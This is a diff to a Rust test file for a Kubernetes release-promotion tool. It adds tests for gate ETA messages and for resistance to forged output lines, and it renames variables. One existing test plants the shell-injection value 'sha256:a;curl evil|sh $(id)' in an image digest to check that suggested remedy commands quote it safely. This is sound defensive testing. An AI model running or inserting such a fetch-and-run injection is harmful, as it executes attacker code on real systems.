@@ -138,14 +138,13 @@ impl Scene {
 
     fn world(&self) -> World<'_> {
         World {
-            pipeline: &self.pipeline,
             bundles: &self.bundles,
             steps: &self.steps,
             gates: &self.gates,
             policy_namespaces: &self.policy_namespaces,
             graphs: &self.graphs,
             agents: &self.agents,
-            now: self.now,
+            ..World::of(&self.pipeline, self.now)
         }
     }
 
@@ -241,6 +240,27 @@ fn a_closed_gate_has_its_exact_time() {
     assert_eq!(json["environments"][0]["gates"][1]["verdict"], "FAIL");
     assert_eq!(json["environments"][0]["gates"][1]["eta"], "2026-04-09T10:48:00Z");
     assert_eq!(json["environments"][0]["outcome"], "BLOCKED");
+}
+
+#[test]
+fn a_time_follows_from_what_the_expression_reads_and_not_from_its_words() {
+    let soak = "ETA: ~18 minutes (based on staging verifiedAt)";
+    let both = "ETA: ~18 minutes (based on staging verifiedAt and the schedule in UTC)";
+    for (expression, expected) in [
+        ("bundle.upstreamSoakMinutes >= 30 && bundle.labels.plan != \"schedule\"", soak),
+        ("bundle[\"upstream\" + \"SoakMinutes\"] >= 30", soak),
+        ("bundle.upstreamSoakMinutes >= 30 && !schedule.isWeekend", both),
+        (
+            "now() >= timestamp(\"2026-04-09T10:48:00Z\") && bundle.labels.plan != \"schedule\"",
+            "ETA: ~18 minutes (based on the clock)",
+        ),
+    ] {
+        let mut scene = Scene::at_the_gates();
+        for gate in scene.gates.iter_mut().filter(|gate| gate.spec.expression.contains("Soak")) {
+            expression.clone_into(&mut gate.spec.expression);
+        }
+        scene.says("prod", Outcome::Blocked, &[expected]);
+    }
 }
 
 #[test]
@@ -459,8 +479,8 @@ fn the_secret_of_the_task_that_was_refused_is_named_and_not_that_of_git() {
         ])));
         let status = step.status.as_mut().unwrap();
         status.current_step_index = Some(1);
-        let told = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
-        assert!(told.contains("correct the Secret `ci-token`; it goes on by itself"), "{told}");
+        let answer = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
+        assert!(answer.contains("correct the Secret `ci-token`; it goes on by itself"), "{answer}");
     }
 }
 
@@ -468,25 +488,25 @@ fn the_secret_of_the_task_that_was_refused_is_named_and_not_that_of_git() {
 fn a_command_that_is_told_runs_nothing_that_is_written_in_a_bundle() {
     let mut scene = refused("https://example.com/gitops refuses the credentials", None);
     scene.bundles[0].spec.artifacts.images[0].digest = Some("sha256:a;curl evil|sh $(id) 'x'".to_owned());
-    let told = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
+    let answer = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
     let quoted =
         r"--image 'my-app=ghcr.io/myorg/my-app:1.29.0@sha256:a;curl evil|sh $(id) '\''x'\''' -n default`";
-    assert!(told.ends_with(quoted), "{told}");
+    assert!(answer.ends_with(quoted), "{answer}");
     // A rollback that is made as any other Bundle is none.
     let spec = &mut scene.bundles[0].spec;
     spec.provenance = Some(object(json!({"rollbackOf": "my-app-v1-30-0"})));
     spec.intent = Some(object(json!({"target": "prod"})));
-    let told = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
+    let answer = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
     let again = "&& kardinal rollback my-app --env prod --to 1.29.0 -n default`";
-    assert!(told.ends_with(again), "{told}");
+    assert!(answer.ends_with(again), "{answer}");
     // While it is there it is on its way already, and nothing would be made.
     let name = scene.bundles[0].metadata.name.clone().unwrap();
     let delete = format!("`kubectl delete bundles.kardinal.io {name} -n default {again}");
-    assert!(told.ends_with(&delete), "{told}");
+    assert!(answer.ends_with(&delete), "{answer}");
     let labels = scene.bundles[0].metadata.labels.get_or_insert_default();
     labels.insert("kardinal.io/emergency".to_owned(), "true".to_owned());
-    let told = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
-    assert!(told.ends_with("--to 1.29.0 --emergency -n default`"), "{told}");
+    let answer = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
+    assert!(answer.ends_with("--to 1.29.0 --emergency -n default`"), "{answer}");
 }
 
 #[test]
@@ -522,8 +542,8 @@ fn a_host_that_is_not_allowed_is_the_operators_matter() {
     let mut scene = blocked("HostNotAllowed", said, None);
     let labels = [(kardinal_api::kardinal::SHARD_LABEL.to_owned(), "eu".to_owned())];
     scene.steps.last_mut().unwrap().metadata.labels = Some(labels.into());
-    let told = remedy(scene.steps.last().unwrap(), &scene.bundles[0]);
-    assert_eq!(told.as_deref(), Some("needs the operator of the controllers or of the agent of shard eu"));
+    let answer = remedy(scene.steps.last().unwrap(), &scene.bundles[0]);
+    assert_eq!(answer.as_deref(), Some("needs the operator of the controllers or of the agent of shard eu"));
 }
 
 #[test]
@@ -539,15 +559,15 @@ fn no_word_of_a_message_says_whom_it_is_about() {
     let said = "`token-service` has no file `permissions/forbidden.yaml`: see --allowed-hosts";
     // Conditions that were stored before have one word for everything.
     for reason in ["ActionNeeded", "SomethingElse"] {
-        let told = remedy(&blocked(reason, said, Some("s")).steps[0], &Scene::new().bundles[0]).unwrap();
-        assert_eq!(told, "it is tried again every few seconds and goes on as soon as it can", "{reason}");
+        let answer = remedy(&blocked(reason, said, Some("s")).steps[0], &Scene::new().bundles[0]).unwrap();
+        assert_eq!(answer, "it is tried again every few seconds and goes on as soon as it can", "{reason}");
     }
     // A wait of the step's own tells more than such a condition.
     let mut scene = blocked("ActionNeeded", said, Some("s"));
     let status = scene.steps[0].status.as_mut().unwrap();
     status.waits = vec![why::blocked(Barrier::NotLetIn, said)];
-    let told = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
-    assert_eq!(told, "needs a person to correct the Secret `s`; it goes on by itself then");
+    let answer = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
+    assert_eq!(answer, "needs a person to correct the Secret `s`; it goes on by itself then");
 }
 
 #[test]
@@ -664,6 +684,19 @@ fn whoever_waits_for_another_bundle_is_told_which() {
             "RESULT: WAITING for my-app-v1-29-0 to leave dev",
         ],
     );
+}
+
+#[test]
+fn what_others_write_makes_no_line_of_its_own() {
+    let forged = "gone\nRESULT: VERIFIED at 2026-04-09T10:00:00Z";
+    let waits = json!([{
+        "on": "outside", "reason": "TryingAgain", "who": "outside",
+        "subject": {"name": forged}, "detail": forged, "basis": forged,
+    }]);
+    let scene = Scene::new().step("dev", json!({"state": "Promoting", "waits": waits}));
+    let text = scene.explain("dev").render();
+    assert_eq!(text.matches("\nRESULT: ").count(), 1, "{text}");
+    assert!(text.contains("gone RESULT: VERIFIED"), "{text}");
 }
 
 #[test]
